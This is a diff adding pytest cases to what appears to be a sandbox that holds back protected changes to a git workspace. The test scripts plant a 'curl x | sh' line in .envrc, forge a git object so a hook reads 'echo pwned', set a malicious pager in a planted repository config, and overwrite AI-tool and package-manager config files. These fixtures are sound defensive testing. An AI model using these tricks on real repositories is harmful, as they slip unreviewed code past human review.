@@ -390,13 +390,16 @@ def test_a_bare_repository_planted_in_a_directory_is_protected(rootless: Caller,
     shutil.rmtree(repo)
 
 
+@pytest.mark.parametrize("case", ["lower", "upper"])  # git accepts an object id in either case in a ref
 def test_a_commit_that_adds_protected_files_holds_its_ref_back(root: Caller, default_image: str,
-                                                               root_data: Path) -> None:
+                                                               root_data: Path, case: str) -> None:
     repo = _repository(ROOTLESS_USER, {"README": "v1\n"})
+    recase = "tr a-f A-F" if case == "upper" else "cat"
     script = ("cd /workspace && echo v2 > README && mkdir -p .github/workflows && echo 'on: push' > "
               ".github/workflows/ci.yml && echo 'curl x | sh' > .envrc && git add -A && "
               "git -c user.name=A -c user.email=a@example.invalid commit -qm 'docs: tweak README' && "
-              "git rm -q --cached .envrc .github/workflows/ci.yml && rm -rf .envrc .github && echo ok")
+              "git rm -q --cached .envrc .github/workflows/ci.yml && rm -rf .envrc .github && "
+              f"ref=$(cat .git/refs/heads/main) && echo $ref | {recase} > .git/refs/heads/main && echo ok")
     result = _run(root, repo, script, root_data, image="localhost/vectraguard/default:bookworm")
     assert result.returncode == 0 and result.stdout == b"ok\n", result.stderr.decode()
     layer = _layer_id(result)
@@ -468,4 +471,56 @@ def test_a_killed_runs_layer_is_recovered_for_review_and_its_mounts_taken_down(r
     mounts = subprocess.run([*rootless.podman(), "unshare", "cat", "/proc/self/mountinfo"], capture_output=True,
                             text=True, check=True, env={"PATH": SYSTEM_PATH}).stdout
     assert f"workspaces/{layers[0]['session']}" not in mounts
+    shutil.rmtree(repo)
+
+
+def test_a_forged_object_is_held_back(rootless: Caller, data_dir: Path) -> None:
+    """Git does not re-hash an object it reads for a checkout: an object file that answers an existing id with
+    other content would put unreviewed content into the tree later."""
+    import base64
+    import zlib
+
+    repo = _repository(ROOTLESS_USER, {"hook.sh": "#!/bin/sh\necho lint ok\n"})
+    blob = _git(repo, ROOTLESS_USER, "rev-parse", "HEAD:hook.sh").stdout.strip()
+    forged = base64.b64encode(zlib.compress(b"blob 20\0#!/bin/sh\necho pwned\n")).decode()
+    path = f".git/objects/{blob[:2]}/{blob[2:]}"
+    script = f"chmod u+w {path} && echo {forged} | base64 -d > {path} && echo ok"
+    result = _run(rootless, repo, script, data_dir)
+    assert result.stdout == b"ok\n", result.stderr.decode()
+    layer = _layer_id(result)
+    changes = _changes(rootless, repo, data_dir, layer)
+    assert "does not hash to its name" in changes[path]["protected"]
+    held = _vg(rootless, repo, data_dir, "apply", layer)
+    assert held.returncode == 0 and "does not hash to its name" in held.stdout.decode() + held.stderr.decode()
+    assert _git(repo, ROOTLESS_USER, "cat-file", "-p", blob).stdout == "#!/bin/sh\necho lint ok\n"
+    # The control: applied, the same id reads as the sandbox's content.
+    assert _vg(rootless, repo, data_dir, "apply", layer, "--include-protected", path).returncode == 0
+    assert _git(repo, ROOTLESS_USER, "cat-file", "-p", blob).stdout == "#!/bin/sh\necho pwned\n"
+    shutil.rmtree(repo)
+
+
+def test_a_planted_repository_with_symlinked_head_and_objects_is_protected(rootless: Caller,
+                                                                         data_dir: Path) -> None:
+    repo = _repository(ROOTLESS_USER)
+    head = _git(repo, ROOTLESS_USER, "rev-parse", "HEAD").stdout.strip()
+    script = (f"mkdir -p tools/refs/heads && ln -s ../.git/objects tools/objects && echo {head} > "
+              "tools/refs/heads/main && ln -s refs/heads/main tools/HEAD && "
+              "printf '[core]\\n\\tpager = touch /tmp/x\\n' > tools/config && echo ok")
+    result = _run(rootless, repo, script, data_dir)
+    assert result.stdout == b"ok\n", result.stderr.decode()
+    changes = _changes(rootless, repo, data_dir, _layer_id(result))
+    for name in ("tools/config", "tools/HEAD", "tools/objects"):
+        assert "repository" in changes[name]["protected"], name
+    shutil.rmtree(repo)
+
+
+def test_what_ai_tools_and_package_managers_load_is_protected(rootless: Caller, data_dir: Path) -> None:
+    repo = _repository(ROOTLESS_USER)
+    names = (".claude/settings.json", ".mcp.json", "mise.toml", ".yarnrc.yml", ".npmrc", ".cargo/config.toml",
+             "web/.npmrc")
+    script = "mkdir -p .claude .cargo web && " + " && ".join(f"echo x > {n}" for n in names) + " && echo ok"
+    result = _run(rootless, repo, script, data_dir)
+    assert result.stdout == b"ok\n", result.stderr.decode()
+    changes = _changes(rootless, repo, data_dir, _layer_id(result))
+    assert {n for n in names if changes[n]["protected"]} == set(names)
     shutil.rmtree(repo)
